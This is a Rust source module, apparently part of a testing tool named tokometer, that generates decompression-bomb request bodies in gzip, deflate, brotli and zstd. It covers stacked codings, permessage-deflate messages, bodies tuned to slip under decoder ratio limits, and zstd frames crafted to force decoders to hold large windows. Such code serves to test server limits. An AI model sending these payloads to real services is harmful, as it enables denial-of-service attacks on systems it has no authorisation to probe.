//! Decompression bombs: small bodies that decode to large ones.

use std::io::Write as _;
use std::sync::OnceLock;

use crate::Outcome;

/// The codings that tokometer decodes, as `Content-Encoding` names them.
pub(crate) const CODINGS: [&str; 4] = ["gzip", "deflate", "br", "zstd"];

/// Decoded sizes of bombs. The best one for a pair of codings depends on how well the inner result compresses.
const SIZES: [usize; 2] = [1 << 20, 4 << 20];

/// Assumed cost of a request in addition to its body, in bytes: HTTP/2 with a filled header table.
const FRAMING: usize = 40;

/// Minimum decoded size of a dense body.
const DENSE: usize = 256 << 10;

/// One coded body.
#[derive(Clone, Debug, Default)]
pub(crate) struct Bomb {
    /// The value of `Content-Encoding`.
    pub(crate) encoding: String,
    pub(crate) body: Vec<u8>,
}

/// Encodes `data`; each coding is a complete stream.
pub(crate) fn encode(coding: &str, data: &[u8]) -> Outcome<Vec<u8>> {
    Ok(match coding {
        "gzip" => {
            let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            encoder.write_all(data)?;
            encoder.finish()?
        }
        "deflate" => {
            let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
            encoder.write_all(data)?;
            encoder.finish()?
        }
        "br" => {
            let mut out = Vec::new();
            brotli::CompressorWriter::new(&mut out, 4096, 5, 22).write_all(data)?;
            out
        }
        "zstd" => zstd::encode_all(data, 3)?,
        other => return Err(format!("unknown coding {other}").into()),
    })
}

/// Raw deflate without a final block, as in permessage-deflate messages.
pub(crate) fn message(data: &[u8]) -> Outcome<Vec<u8>> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(data)?;
    encoder.flush()?;
    let mut message = encoder.get_ref().clone();
    // Senders omit the last four bytes of a flush (RFC 7692, section 7.2.1).
    message.truncate(message.len().saturating_sub(4));
    Ok(message)
}

/// A bomb for every single coding.
pub(crate) fn singles() -> Outcome<Vec<Bomb>> {
    CODINGS.iter().map(|coding| single(coding)).collect()
}

/// One coding: 1 MiB of spaces, which a JSON scanner has to read completely.
pub(crate) fn single(coding: &str) -> Outcome<Bomb> {
    let text = texts().iter().find(|text| text.coding == coding).ok_or("unknown coding")?;
    Ok(Bomb { encoding: coding.to_owned(), body: text.coded.clone() })
}

/// A bomb for every ordered pair of codings.
pub(crate) fn pairs() -> Outcome<Vec<Bomb>> {
    CODINGS.iter().flat_map(|first| CODINGS.iter().map(|second| pair(first, second))).collect()
}

/// A bomb with two codings. `first` is applied first, and therefore decoded last.
fn pair(first: &str, second: &str) -> Outcome<Bomb> {
    let mut best = (0.0, Vec::new());
    for text in texts().iter().filter(|text| text.coding == first) {
        let body = encode(second, &text.coded)?;
        let gain = text.size as f64 / (body.len() + FRAMING) as f64;
        if gain > best.0 {
            best = (gain, body);
        }
    }
    Ok(Bomb { encoding: format!("{first}, {second}"), body: best.1 })
}

/// Spaces, encoded with one coding.
#[derive(Debug)]
struct Text {
    coding: &'static str,
    size: usize,
    coded: Vec<u8>,
}

/// All sizes in all codings, ordered by coding, then by size.
fn texts() -> &'static [Text] {
    static DONE: OnceLock<Vec<Text>> = OnceLock::new();
    DONE.get_or_init(|| {
        let of = |coding: &'static str, size| {
            let coded = encode(coding, &vec![b' '; size]).expect("all of CODINGS are supported");
            Text { coding, size, coded }
        };
        CODINGS.iter().flat_map(|coding| SIZES.map(|size| of(coding, size))).collect()
    })
}

/// A body whose decoded size is at least `DENSE`, and at most `ratio` times its coded size, so that a ratio limit does
/// not trigger.
pub(crate) fn dense(coding: &str, ratio: usize) -> Outcome<Bomb> {
    const NOISE: usize = 16;
    let mut random = fastrand::Rng::with_seed(7);
    let mut best = Vec::new();
    // A longer run of tokens after each piece of noise adds almost no coded bytes.
    for run in (4..).map(|step| step * ratio).take_while(|run| *run < ratio * 30) {
        let mut data = b"{\"messages\":[".to_vec();
        while data.len() < DENSE {
            data.extend((0..NOISE).map(|_| random.u8(b'1'..=b'9')));
            data.extend_from_slice(&b",1".repeat(run));
            data.push(b',');
        }
        let body = encode(coding, &data)?;
        if data.len() > body.len() * ratio {
            break;
        }
        best = body;
    }
    Ok(Bomb { encoding: coding.to_owned(), body: best })
}

/// A zstd frame that declares a window of `1 << window` bytes and contains `blocks` run-length blocks of 128 KiB. It
/// has no last block, so that the decoder has to keep its window.
pub(crate) fn open_zstd(window: u8, blocks: usize) -> Vec<u8> {
    const MAGIC: [u8; 4] = [0x28, 0xb5, 0x2f, 0xfd];
    const RUN: u32 = (128 << 10) << 3 | 1 << 1;
    // Frame header descriptor: no content size, no checksum. Window descriptor: the exponent minus ten.
    let mut body = [&MAGIC[..], &[0, (window - 10) << 3]].concat();
    for _ in 0..blocks {
        body.extend_from_slice(&RUN.to_le_bytes()[..3]);
        body.push(b' ');
    }
    body
}
